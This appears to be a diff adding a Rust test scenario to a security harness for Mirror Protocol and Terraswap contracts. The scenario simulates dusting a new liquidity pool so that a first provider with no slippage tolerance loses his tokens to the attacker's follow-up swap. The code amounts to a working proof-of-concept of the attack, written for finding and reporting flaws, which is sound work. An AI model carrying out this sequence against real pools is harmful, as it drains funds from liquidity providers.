@@ -1,0 +1,136 @@
+//! A pool that somebody has put dust into before its first provider.
+
+use cosmwasm_std::{coin, Uint128};
+use cw20::Cw20ExecuteMsg;
+use mirror_protocol::staking;
+use mirror_testing::{percent, World, BASE};
+use terraswap::asset::Asset;
+use terraswap::pair;
+
+use super::super::bundle::{base, Bundle};
+use super::super::scenes::{self, UNIT};
+use super::super::stage::Stage;
+use super::super::told::{Attempt, Findings};
+use super::super::Attack;
+
+pub(super) const ATTACK: Attack = Attack {
+    name: "dust ahead of a provider",
+    story:
+        "Two micro coins and a whole mAAPL made a new pool's price absurd: the first who staked \
+            100,000 coins and 1,000 mAAPL without a tolerance gave all his mAAPL for 2,000 micro \
+            coins, and the next swap took 99,671 coins' worth of them.",
+    run,
+};
+
+/// What bob brings, at a price of 100.
+const BASE_OF_BOB: u128 = 100_000 * UNIT;
+const TOKENS_OF_BOB: u128 = 1_000 * UNIT;
+
+/// How he provides it.
+#[derive(Clone, Copy)]
+enum Way {
+    AutoStake,
+    Provide,
+}
+
+fn run() -> anyhow::Result<Findings> {
+    Ok(Findings {
+        attempts: vec![
+            dust(
+                Way::AutoStake,
+                "put 2 micro coins and a mAAPL into a new pool, and bought what bob staked next",
+            )?,
+            dust(
+                Way::Provide,
+                "the same while bob provides to the pair itself",
+            )?,
+        ],
+        exposures: vec![skewed(95)?.exposes(
+            "a pool of dust stands just less than 5 % from the price, which is what who names no \
+             tolerance accepts",
+        )],
+    })
+}
+
+/// The pool's price is off by so little that the provider's is taken, and is arbitraged then.
+fn skewed(percent: u128) -> anyhow::Result<Attempt> {
+    let mut stage = prepared()?;
+    let listed = stage.world.asset("mAAPL");
+    let (coins, tokens) = (100 * UNIT * percent / 100 + UNIT / 100, UNIT);
+    let dust = Asset::token(&listed.token, tokens);
+    stage.does(Bundle::new().provides(&listed.pair, base(coins), dust))?;
+    bob_provides(&mut stage, Way::Provide)?;
+    // Half of what is missing brings the price back.
+    let coins = base(BASE_OF_BOB * (100 - percent) / 200);
+    stage.does(Bundle::new().swaps(&listed.pair, coins))?;
+    stage.ends(String::new())
+}
+
+fn dust(way: Way, tried: &str) -> anyhow::Result<Attempt> {
+    let mut stage = prepared()?;
+    let listed = stage.world.asset("mAAPL");
+    let token = Asset::token(&listed.token, UNIT);
+    stage.does(Bundle::new().provides(&listed.pair, base(2), token))?;
+
+    if let Err(refusal) = bob_provides(&mut stage, way) {
+        stage.refused_to_others("T-55", &refusal);
+    }
+    // Where the price is absurd a coin buys nearly everything.
+    let coins = base(UNIT);
+    let given = scenes::simulated(&stage.world, &listed.pair, &coins)?;
+    if given > Uint128::new(UNIT) {
+        stage.does(Bundle::new().swaps(&listed.pair, coins))?;
+    }
+    stage.ends(tried)
+}
+
+fn prepared() -> anyhow::Result<Stage> {
+    let mut world = World::new().with_asset("mAAPL", "100");
+    for name in ["attacker", "bob"] {
+        world
+            .actor(name)
+            .opens(4 * BASE_OF_BOB, "mAAPL", percent(200));
+    }
+    let mut stage = Stage::new(world, &[("mAAPL", scenes::price("100")?)])?;
+    stage.watches("bob")?;
+    Ok(stage)
+}
+
+/// Without a tolerance.
+fn bob_provides(stage: &mut Stage, way: Way) -> anyhow::Result<()> {
+    let listed = stage.world.asset("mAAPL");
+    let assets = [
+        base(BASE_OF_BOB),
+        Asset::token(&listed.token, TOKENS_OF_BOB),
+    ];
+    let at = match way {
+        Way::AutoStake => stage.world.at.staking.clone(),
+        Way::Provide => listed.pair,
+    };
+    let allow = Cw20ExecuteMsg::IncreaseAllowance {
+        spender: at.to_string(),
+        amount: TOKENS_OF_BOB.into(),
+        expires: None,
+    };
+    stage.world.bob().tries(&listed.token, &allow, &[])?;
+    let funds = [coin(BASE_OF_BOB, BASE)];
+    match way {
+        Way::AutoStake => {
+            let stake = staking::ExecuteMsg::AutoStake {
+                assets,
+                slippage_tolerance: None,
+            };
+            stage.world.bob().tries(&at, &stake, &funds)?;
+        }
+        Way::Provide => {
+            let provide = pair::ExecuteMsg::ProvideLiquidity {
+                assets,
+                receiver: None,
+                deadline: None,
+                slippage_tolerance: None,
+            };
+            stage.world.bob().tries(&at, &provide, &funds)?;
+        }
+    }
+    Ok(())
+}
